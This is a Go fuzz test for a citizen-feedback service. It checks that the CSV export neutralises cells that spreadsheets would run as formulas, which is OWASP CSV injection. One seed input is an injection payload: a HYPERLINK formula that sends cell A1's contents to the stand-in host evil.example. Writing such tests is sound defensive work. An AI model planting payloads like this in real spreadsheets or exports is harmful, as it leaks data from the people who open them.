package feedback

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/doithoai/doithoai/internal/db"
	"github.com/doithoai/doithoai/internal/testenv"
	"github.com/doithoai/doithoai/moderation"
	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"
)

// formulaStarts are the first characters that make Excel, LibreOffice or
// Google Sheets run a cell as a formula (OWASP CSV injection; ASVS 1.2.10
// also lists NUL, which PostgreSQL text cannot hold).
const formulaStarts = "=+-@\t\r"

// Citizens write the titles, provinces and languages of what they send;
// leaders open the export in a spreadsheet. Whatever a citizen stored, no
// exported cell may start a formula, and each cell must read back (after
// the spreadsheet's own apostrophe text marker) as exactly what was stored.
func FuzzExportCSV(f *testing.F) {
	f.Add(`=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")`, "Hà Giang", "vi")
	f.Add("Đất đai, \"sổ đỏ\"\nvà thuế", "+84 Lào Cai", "@hmn")
	h, pool := mustExportHandlers(f)
	var refs atomic.Int64
	f.Fuzz(func(t *testing.T, title, province, language string) {
		for _, s := range []string{title, province, language} {
			assertCell(t, s)
		}
		if !storable(title) || !storable(province) || !storable(language) {
			return // PostgreSQL refuses the text: nothing can reach the export
		}
		ctx := context.Background()
		var it moderation.Item
		err := db.InTx(ctx, pool, func(tx pgx.Tx) (err error) {
			it, err = h.svc.Enqueue(ctx, tx, moderation.NewItem{Source: moderation.SourceForumQuestion,
				Ref: fmt.Sprintf("fuzz-%d", refs.Add(1)), Title: title, Content: "nội dung", Province: province, Language: language})
			return err
		})
		if err != nil {
			t.Fatalf("enqueue: %v", err)
		}
		var stored struct{ title, province, language string }
		var created time.Time
		if err := pool.QueryRow(ctx, `SELECT title, province, language, created_at FROM moderation_items WHERE id = $1`, it.ID).
			Scan(&stored.title, &stored.province, &stored.language, &created); err != nil {
			t.Fatal(err)
		}

		// The range is this item's creation instant alone.
		q := url.Values{"from": {created.Format(time.RFC3339Nano)}, "to": {created.Add(time.Microsecond).Format(time.RFC3339Nano)}}
		rec := httptest.NewRecorder()
		err = h.handleExport(rec, httptest.NewRequest(http.MethodGet, "/api/v1/feedback/export.csv?raw=1&"+q.Encode(), nil))
		if err != nil || rec.Code != http.StatusOK {
			t.Fatalf("export: %d %v", rec.Code, err)
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(rec.Body.Bytes(), []byte("\ufeff")))).ReadAll()
		if err != nil {
			t.Fatalf("the export is not valid CSV: %v\n%q", err, rec.Body.String())
		}
		if len(rows) != 2 || strings.Join(rows[0], ",") != strings.Join(exportHeader, ",") || rows[1][0] != strconv.FormatInt(it.ID, 10) {
			t.Fatalf("want the header and item %d, got %q", it.ID, rows)
		}
		row := rows[1]
		if len(row) != len(exportHeader) {
			t.Fatalf("row has %d cells, want %d: %q", len(row), len(exportHeader), row)
		}
		for _, c := range []struct {
			col    int
			stored string
		}{{12, stored.title}, {3, stored.province}, {4, stored.language}} {
			got := row[c.col]
			if got != "" && strings.ContainsRune(formulaStarts, rune(got[0])) {
				t.Fatalf("%s cell %q starts a formula", exportHeader[c.col], got)
			}
			// cell is checked above; encoding/csv reads a quoted CR LF back as LF.
			if want := strings.ReplaceAll(cell(c.stored), "\r\n", "\n"); got != want {
				t.Fatalf("%s: stored %q, exported %q, want %q", exportHeader[c.col], c.stored, got, want)
			}
		}
		for _, col := range []int{0, 1, 5, 11} { // id, channel, status, escalated: ours, never citizens'
			if got := row[col]; got == "" || strings.ContainsRune(formulaStarts, rune(got[0])) {
				t.Fatalf("%s cell %q", exportHeader[col], got)
			}
		}
	})
}

// assertCell checks cell alone: it neutralises exactly the formula starts,
// by prefixing an apostrophe and changing nothing else, and is stable.
func assertCell(t *testing.T, s string) {
	t.Helper()
	got := cell(s)
	dangerous := s != "" && strings.ContainsRune(formulaStarts, rune(s[0]))
	switch {
	case dangerous && got != "'"+s:
		t.Fatalf("cell(%q) = %q, want an apostrophe in front", s, got)
	case !dangerous && got != s:
		t.Fatalf("cell(%q) = %q, want it unchanged", s, got)
	case cell(got) != got:
		t.Fatalf("cell is not stable on %q", got)
	}
}

func storable(s string) bool { return utf8.ValidString(s) && !strings.ContainsRune(s, 0) }

func mustExportHandlers(tb testing.TB) (*Handlers, *pgxpool.Pool) {
	tb.Helper()
	pool, err := db.Open(context.Background(), testenv.NewDBURL(tb))
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(pool.Close)
	// Not testenv.Logger: F may not log once fuzzing runs.
	svc := moderation.NewService(pool, 15*time.Minute, slog.New(slog.DiscardHandler))
	h, err := NewHandlers(svc, NewStore(pool, svc.SLA.Location))
	if err != nil {
		tb.Fatal(err)
	}
	return h, pool
}
